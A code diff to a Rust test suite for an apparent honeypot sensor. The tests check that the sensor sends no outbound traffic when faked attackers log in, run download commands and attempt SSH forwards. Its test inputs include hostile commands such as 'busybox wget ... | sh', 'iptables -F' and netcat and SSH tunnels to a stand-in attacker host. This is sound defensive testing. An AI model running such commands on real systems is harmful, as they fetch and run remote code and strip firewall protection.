@@ -20,6 +20,11 @@ const HEADERS: usize = 28;
 /// Link header that the budget counts as well.
 const LINK: usize = 14;
 
+/// How often something is done; more when that is asked for.
+fn often(name: &str, usual: usize) -> usize {
+    std::env::var(name).map_or(usual, |text| text.parse().unwrap())
+}
+
 /// Runs `test` of this file again, as root of a new user and network namespace.
 fn in_namespace(test: &str) {
     let made = Command::new("unshare").args(["-rn", "true"]).status();
@@ -138,9 +143,9 @@ impl Lures {
             line.clear();
             assert!(log.read_line(&mut line).unwrap() > 0, "it ended before it served");
         }
-        // Telnet is announced after the datagrams.
-        let telnet = more.contains(&"--telnet");
-        while telnet && !line.contains("telnet on") {
+        // Dialogues are announced after the datagrams.
+        let doors = more.iter().any(|word| ["--telnet", "--ssh"].contains(word));
+        while doors && !line.contains("telnet on") && !line.contains("ssh on") {
             line.clear();
             assert!(log.read_line(&mut line).unwrap() > 0, "it ended before it served");
         }
@@ -200,20 +205,30 @@ fn replies_stay_within_every_bound_as_counted_outside() {
     let sent = drain(&world);
     assert!(sent.values().all(|(packets, bytes)| *packets <= 5 && *bytes <= 4_096), "{sent:?}");
     // Many victims: 16 kbit/s in all. Delays only make the span longer than the sensor's own.
+    let victims = often("NOROSHI_HARMLESS_VICTIMS", 20_000) as u32;
     let begun = Instant::now();
-    burst(&lures, 20_000, &|n| 0x0a00_0000 + n * 256);
+    let mut sent: BTreeMap<u32, (usize, usize)> = BTreeMap::new();
+    for from in (0..victims).step_by(20_000) {
+        burst(&lures, 20_000.min(victims - from), &|n| 0x0a00_0000 + (from + n) * 256);
+        for (network, (packets, bytes)) in drain(&world) {
+            let entry = sent.entry(network).or_default();
+            *entry = (entry.0 + packets, entry.1 + bytes);
+        }
+    }
     let seconds = begun.elapsed().as_secs_f64();
-    let sent = drain(&world);
     let bytes: usize = sent.values().map(|(_, bytes)| bytes).sum();
-    println!("{bytes} bytes left in {seconds:.1} s for 20,000 forged victims in as many networks");
+    println!("{bytes} bytes left in {seconds:.1} s for {victims} forged victims in as many networks");
     assert!(bytes > 0 && bytes as f64 <= 2_000.0 * (seconds + 1.0), "{bytes} bytes in {seconds} s");
+    assert!(sent.values().all(|(packets, bytes)| *packets <= 5 && *bytes <= 4_096));
     drop(lures);
     // Restarts refill nothing: after each, an hour of silence.
-    for _ in 0..5 {
+    let restarts = often("NOROSHI_HARMLESS_RESTARTS", 5);
+    for _ in 0..restarts {
         let lures = Lures::start(3_600, &[]);
         burst(&lures, 300, &|n| 0x0b00_0000 + n * 256);
         assert!(drain(&world).is_empty());
     }
+    println!("{restarts} restarts, nothing left");
 }
 
 #[test]
@@ -222,7 +237,7 @@ fn dialogues_that_fetch_cause_no_packet() {
     if std::env::var_os(INSIDE).is_none() {
         return in_namespace(NAME);
     }
-    let sessions: usize = std::env::var("NOROSHI_HARMLESS_SESSIONS").map_or(12, |text| text.parse().unwrap());
+    let sessions = often("NOROSHI_HARMLESS_SESSIONS", 12);
     let world = World::make();
     // The way out works: what this test itself sends is seen.
     let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
@@ -247,20 +262,66 @@ fn dialogues_that_fetch_cause_no_packet() {
         "iptables -F",
         "/bin/busybox wget http://203.0.113.9/h -O - | sh",
     ];
-    // The recorder's fetches are refused at once, so that nobody waits.
-    let mut visitors: Vec<TcpStream> = (0..sessions).map(|_| TcpStream::connect("127.0.0.1:2323").unwrap()).collect();
-    for (n, visitor) in visitors.iter_mut().enumerate() {
-        let one = fetch[n % fetch.len()];
-        let script = format!("root\r\n123456\r\n{one}\r\nexit\r\nexit\r\n");
-        visitor.write_all(script.as_bytes()).unwrap();
+    // The recorder's fetches are refused at once, so that nobody waits. As many at once as one source may have.
+    for from in (0..sessions).step_by(48) {
+        let wave = from..sessions.min(from + 48);
+        let mut visitors: Vec<TcpStream> =
+            wave.clone().map(|_| TcpStream::connect("127.0.0.1:2323").unwrap()).collect();
+        for (n, visitor) in wave.clone().zip(&mut visitors) {
+            let one = fetch[n % fetch.len()];
+            let script = format!("root\r\n123456\r\n{one}\r\nexit\r\nexit\r\n");
+            visitor.write_all(script.as_bytes()).unwrap();
+        }
+        for mut visitor in visitors {
+            visitor.set_read_timeout(Some(PATIENCE)).unwrap();
+            drop(visitor.read_to_end(&mut Vec::new()));
+        }
+        lures.seen(wave.len());
     }
-    for mut visitor in visitors {
-        visitor.set_read_timeout(Some(PATIENCE)).unwrap();
-        drop(visitor.read_to_end(&mut Vec::new()));
-    }
-    lures.seen(sessions);
     assert_eq!(world.left(Duration::from_millis(300)), None, "something left");
     println!("{sessions} sessions, nothing left");
+}
+
+/// OpenSSH asks to be led to addresses that are not the sensor's, in every way it knows.
+#[cfg(feature = "ssh")]
+#[test]
+fn forwards_over_ssh_cause_no_packet() {
+    const NAME: &str = "harmless::forwards_over_ssh_cause_no_packet";
+    if !super::space::have("ssh") {
+        return;
+    }
+    if std::env::var_os(INSIDE).is_none() {
+        return in_namespace(NAME);
+    }
+    use std::os::unix::fs::PermissionsExt;
+    let world = World::make();
+    let lures = Lures::start(3_600, &["--ssh", "127.0.0.1:2222", "--persona", "recorder"]);
+    let folder = tempfile::tempdir().unwrap();
+    let ask = folder.path().join("ask.sh");
+    std::fs::write(&ask, "#!/bin/sh\necho 123456\n").unwrap();
+    std::fs::set_permissions(&ask, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let ways: [&[&str]; 7] = [
+        &["-W", "203.0.113.9:80", "root@127.0.0.1"],
+        &["-W", "[::ffff:203.0.113.9]:80", "root@127.0.0.1"],
+        &["-W", "[2001:db8::9]:80", "root@127.0.0.1"],
+        &["-W", "evil.example:80", "root@127.0.0.1"],
+        &["-N", "-R", "7003:203.0.113.9:80", "root@127.0.0.1"],
+        &["-w", "0:0", "root@127.0.0.1", "wget http://203.0.113.9/a"],
+        &["-A", "root@127.0.0.1", "ssh -L 1:203.0.113.9:22 root@203.0.113.9; nc 203.0.113.9 1"],
+    ];
+    for way in ways {
+        let mut command = Command::new("ssh");
+        command.env("SSH_ASKPASS", &ask).env("SSH_ASKPASS_REQUIRE", "force").env("DISPLAY", "none");
+        command.args(["-F", "/dev/null", "-p", "2222", "-o", "PubkeyAuthentication=no"]);
+        command.args(["-o", "ExitOnForwardFailure=yes", "-o", "StrictHostKeyChecking=no"]);
+        command.args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]).args(way);
+        assert!(!command.stdin(Stdio::null()).status().unwrap().success(), "{way:?} led somewhere");
+        let row = lures.rows.recv_timeout(PATIENCE).unwrap();
+        // The library refuses tunnels on its own account.
+        let noted = way[0] == "-w" || row.contains("203.0.113.9") || row.contains("forward");
+        assert!(row.contains("root:123456") && noted, "{row}");
+    }
+    assert_eq!(world.left(Duration::from_millis(300)), None, "something left");
 }
 
 #[test]
